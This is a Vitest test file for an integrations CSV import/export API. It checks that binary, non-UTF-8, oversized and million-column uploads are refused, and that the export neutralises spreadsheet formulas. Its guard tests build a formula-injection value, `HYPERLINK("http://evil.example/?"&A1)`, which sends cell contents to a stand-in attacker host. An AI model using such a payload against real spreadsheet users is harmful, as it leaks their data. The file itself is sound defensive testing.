// Hostile or broken CSV uploads: each gets a clear error, nothing of it is stored, and the next
// request is answered as usual. And the export's formula guard, for every character a
// spreadsheet treats as the start of a formula.
import { randomBytes } from "node:crypto";
import { describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { POST as importRoute } from "@/app/api/v1/integrations/import/route";
import { GET as exportRoute } from "@/app/api/v1/integrations/export/route";
import { call } from "../support/api";
import { makeIntegration, makeToken, makeUser, unique } from "../support/factories";

async function importCsv(token: string, body: string | Uint8Array, query = "") {
  return call(importRoute, { method: "POST", token, path: `/api/v1/integrations/import?${query}`, body, headers: { "content-type": "text/csv" } });
}

async function exportCsv(token: string, query: string): Promise<string> {
  const res = await call(exportRoute, { token, path: `/api/v1/integrations/export?${query}` });
  expect(res.status).toBe(200);
  return res.json as string;
}

/** Sends a hostile file; expects the status and message, nothing stored, and a good file still importing. */
async function refused(body: string | Uint8Array, status: number, message: RegExp) {
  const token = await makeToken(await makeUser({ role: "ADMIN" }));
  const before = await db.integration.count();
  const res = await importCsv(token, body);
  expect(res.status).toBe(status);
  expect(res.json.error.message).toMatch(message);
  expect(await db.integration.count()).toBe(before);
  const tag = unique("after");
  expect((await importCsv(token, `name,category\n${tag},api\n`)).json).toMatchObject({ committed: true, created: 1 });
}

describe("a hostile CSV import", () => {
  it("refuses a binary file", async () => {
    const bytes = new Uint8Array([...new TextEncoder().encode("name,category\n"), ...randomBytes(64 * 1024)]);
    bytes[20] = 0; // binary files hold NUL bytes; a text file never does
    await refused(bytes, 422, /^The file is not a CSV text file: it contains binary data \(line 2\)\. Export the spreadsheet as "CSV UTF-8".* Nothing was imported\.$/);
  });

  it("refuses text that is not UTF-8, naming the line", async () => {
    const latin1 = Buffer.from("name,category,notes\nFirst,api,fine\nCaf\u00e9 relay,email_relay,Windows-1252\n", "latin1");
    await refused(new Uint8Array(latin1), 422, /^The file is not UTF-8 text \(line 3 has bytes that are not UTF-8\)\. Save it as "CSV UTF-8"/);
  });

  it("refuses a 50 MB file with 413 while it streams in", async () => {
    await refused(`name,category,notes\n${`${"x".repeat(100)},api,y\n`.repeat(500_000)}`, 413, /larger than 10 MB/);
  }, 60_000);

  it("refuses a million columns", async () => {
    await refused(`name,category${",".repeat(1_000_000)}\nx,api\n`, 422, /^Line 1 is longer than 256 KB: this is not a CSV of integrations/);
    await refused(`name,category,${Array.from({ length: 148 }, (_, i) => `c${i}`).join(",")}\nx,api\n`, 422, /^The header has 150 columns; a CSV of integrations has at most 100/);
  }, 60_000);

  it("stores formulas as the text they are, and never runs them on the way out", async () => {
    const token = await makeToken(await makeUser({ role: "ADMIN" }));
    const tag = unique("formula");
    const csv = `name,category,notes\n${tag} a,api,=1+1\n${tag} b,api,"@SUM(A1:A9)"\n${tag} c,api,"x;=1+1;"\n`;
    expect((await importCsv(token, csv)).json).toMatchObject({ committed: true, created: 3 });
    const notes = (await db.integration.findMany({ where: { name: { startsWith: tag } }, orderBy: { name: "asc" } })).map((r) => r.notes);
    expect(notes).toEqual(["=1+1", "@SUM(A1:A9)", "x;=1+1;"]);
    const lines = (await exportCsv(token, `q=${tag}&sort=name`)).trim().split("\r\n");
    expect(lines[1]).toContain(",'=1+1,");
    expect(lines[2]).toContain(",'@SUM(A1:A9),");
    // Quoted: a spreadsheet that splits on semicolons keeps it one cell.
    expect(lines[3]).toContain(',"x;=1+1;",');
  });
});

describe("the export's formula guard", () => {
  const LEADING = ["=", "+", "-", "@", "\t", "\r"];

  for (const c of LEADING) {
    it(`neutralises a cell starting with ${JSON.stringify(c)}, and re-import takes the guard off again`, async () => {
      const token = await makeToken(await makeUser({ role: "ADMIN" }));
      const tag = unique("lead");
      const value = `${c}HYPERLINK("http://evil.example/?"&A1)`;
      const row = await makeIntegration({ name: `${tag} row`, notes: value, vendor: `'${c}already guarded` });
      const csv = await exportCsv(token, `q=${tag}`);
      const cells = csv.trim().split("\r\n")[1];
      // The apostrophe comes first: the spreadsheet sees text. Quoted, since the value has quotes (and tabs or CRs).
      expect(cells).toContain(`"'${value.replace(/"/g, '""')}"`);
      expect(cells).toContain(`''${c}already guarded`);
      const again = await importCsv(token, csv);
      expect(again.status).toBe(200);
      const stored = await db.integration.findUniqueOrThrow({ where: { id: row.id } });
      // Never an apostrophe left behind; whitespace at the edges is trimmed as in any import.
      expect(stored.notes).toBe(value.trim());
      expect(stored.vendor).toBe(`'${c}already guarded`);
      if (c.trim()) expect(again.json).toMatchObject({ committed: true, created: 0, updated: 0, unchanged: 1 });
    });
  }
});
